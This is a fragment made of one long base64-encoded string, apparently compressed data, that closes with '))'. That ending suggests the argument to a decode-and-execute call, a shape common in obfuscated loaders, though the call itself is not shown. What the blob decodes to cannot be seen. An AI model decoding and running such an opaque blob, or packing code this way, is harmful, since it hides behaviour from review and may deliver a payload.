ZY/ycMFjqWhNIjqpI5GSwAewWXe184TwvvuJHQDEFY/kysrB9gu0LAaCnd4TdTR9iboJmKlLR7LsLuV5L8jGkCUeygSDFJO7g4reRrAppDPd7BPqQ2xYMUUeWgV+LmgCMywcFPdGPziyTVWuYaEu0lalZCfpcdJOZ+pzsscp9kHLz0p7prfeMGdkFbm7DKeRIg8A+JqsDAyYPQ4v5Af/Qjuh8LrCXoxz2Dxm9t8eahG6J0f2a5KnOR8lyRs4c5VX4R8xC6KWfqGgk/KDJOu0zo/KpTVkvkgJ5eHXHvSbmU1klZ09McJGUELt089yh6GTUptssHB9vWJxOFq1iwcljim40qgujYkZIsyGtY/bM78Am/0LvfK47x5Pta9xus6XxBmQOHbL8PF2jlDgggo/Ee+M+ejIIVq03phUxNVx2xQ1qSp7dwVsCJcT6yA/8/ksHiRJyYhz0IShnQf5Y+zMd88ZtydwgMnXNk889HU/RAWMS7iYfEwTKUQQLd4+EJ28Isbsfew/PT0y/zIqs7aESm0XYSMPbcgSNfZyH7KNAHqk78IKxtbrj9tmMgG5pGOPgaX4feyF8LxgHvvEOIqfjIaLvga6rzxKSN2w0VF+DGkA3R7QgavalDu5FvZkZBVq1GdJdJSAc9a3RCPdOnBJeOQYO12pfAIy8cMZiCgShSiLOgMctCxIWCs2cvNrERJQ5Jq7fIo74HQTkfbQxWaNDyhs/4maZoNkwWMVW0uCuofGtNwi7TckvwzqIfC5XgHmRc41PjOhTbbd6UuSLW2NkR2U0gXXvzsqmO2AHVBuCEQrJAPfQOpnqR7WOm75vD9E6FbruM7ng7w2k8zb+vcBwSFSTSri3/PLTWOKyI8cHjhA+FnLSCTiUDoRVPjSIwSDS81V/OtMXp+qHwt1fyMXHrZe6siLvVVKX5VGRUjp8Gx6XAFilgNU0BT0jJuCxUzJRWaKq2tFmV+n5b+75G8Vmvxkr2XYIWLgS9sweEFBhbvsNCQ0vksKdzUAbDpk2bKWbbPyUC+h2cI5eY+9RfspVu/cTI7FjTuwCtcsjhxKoBGZjeWERyHgJQPNvgPVSaDEIyJwptaqTcSLQRL0jGkk+Exqkz/N7Bnp8tv6dQ8iBb9ZKeGKOiUGo3Z952wKk0jeLs8MyrMY+YPQm/Fdx5B5paqPMBeRSo1a+BwOxKjBLmV5hwdI9Hu23c6o5j7Hk1CCDYkCCAP/UP8wgODw4wlg+Mj8jPNe6sYWzDaKzTFrQTdgv3LPcoDcAaED7kGl+6GKN2hEo6c3QT42JROQYdaQS+xdYht/zPGAstQoheXIZYHKD0DUH1jBjzlt0Q7KG02IM9HEUL0jH/l4OvJLzfI7kQTQGBkhqlu3/Cu8tYv1NHIDOEfWnZT7aawmPSayeymRaF6ULO0qFPV+DJ7xW1KAE3F/tqEQl8WXoxfQDwTHFGPVxCCvSBMygpviHoLFFITkEkITdm0KryOGFxlm3F90lRCj7zJx3WjwY6MPPO376qrphyMKbTM1NMTewdBTJTYY/Oe3TLzOKp41Z0vn3K+1x6tWMouIDcO+Xb+bbm8kECGd9Jb3W43fa1Ve4+IvgIRKrebPruLOeMmaq3WjQ5HAfAb6GNNawkVcxHePO4QkLrZh1ftuqe9R2PWHh+if2RAnO97lBH4GnUi0+QF8opFOVWbTNR/Pt9u4YNLWH5Qwu9KW5huUDF7QsulgiASGJBZb5rNy+8Zs0z3HiOnvyxkbllwDhpMUqWyOAH9XvhzKYJPNCEZWHENOPz7QjbnyC5KQ7PPnU+TW6vJvJBOiM4OeMUDKujZhIF+/OiVIkcRzWTVQQGttjseEQa61vQjJRoIdWMR4bwD83SRPO+ci6scpw9EBzjRN7JdqXx075guH5pJXZZS5ZsQqqc5CNwZwJVhyMr6dH8Wl7GjSq/M+uvpuJfHdkLgbO0y5E8LRI0iDiFpNQU9Nlx2Jq7QeMH2hkeAqKiXLom5EbhG6xYE1XhWJ9/qWPfdXUmnxM8K9664iM3NFxqyNbSKnsnAo5gCql1DxVzsJVF38pAGcg83t6BQc8vBqwWB7IJcCDD5gbN5IB0fvgthR6S00n1HJaarKUEP0OBXpuQgv51efGGB8t5SYcjgNpyMCQV/aMxXo4XC85uw5nIgVZ9TnNy+Wi2nwJwzT2nY68bQbud7MvU4Z9z6uYgQFvGU9QxlM2GTYmZQ+wgGOMGtAyZpX1jGq3Me/lFan9Yb1fqd079jD33WgLDrtp8+drjMYFUW6XF0s16vDiyOIjLRa2eCMhZr2//0CBv+lW5OJf/CUUhUvxASXSpLKA+HoWtw1bh/J3aUuBS5RxMVS7Xo/dQp0MgpqkePgt5b1lBBKbcbiuA7nPu7setOnQ6ahYhm25Fkzw838vdNEn+S4nBnxKAodHTZe8eUBfl0lgSDQ7NPrVxSne833IqWms8wHcBQwsKXKOPJwZ+/L9f2///Ov//l9FxVlKtuX2vPnmlw78mT/854cRJa4cTK0AALPKAU8vH/RR3BFtOe8mcwJe'))